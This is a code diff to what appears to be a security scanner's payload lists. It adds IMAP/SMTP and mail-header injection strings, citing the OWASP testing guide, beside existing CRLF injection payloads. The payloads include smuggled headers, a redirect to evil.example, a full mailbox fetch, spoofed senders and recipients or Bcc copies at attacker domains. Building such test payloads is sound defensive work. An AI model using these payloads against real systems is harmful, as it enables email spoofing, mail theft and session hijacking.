@@ -112,6 +112,8 @@ const SSRF_TARGETS = [
 
 const CRLF = [
   ...cross(['', '/', 'en', 'x'], ['%0d%0a', '%0D%0A', '\r\n', '%0a', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '\\r\\n', '%0d%0a%09'], ['Set-Cookie: sid=attacker', 'Location: http://evil.example/', 'Content-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK', 'X-Injected: 1', '<script>alert(1)</script>']),
+  // mail protocol and mail header injection (OWASP testing guide: IMAP/SMTP injection)
+  ...cross(['INBOX', '4791', 'user@example.com'], ['%0d%0a', '\r\n'], ['A02 FETCH 1:* BODY[]', 'V101 LOGOUT', 'RCPT TO:<attacker@evil.example>', 'MAIL FROM:<spoof@bank.example>', 'Bcc: list@evil.example']),
 ];
 
 const CMDI = [
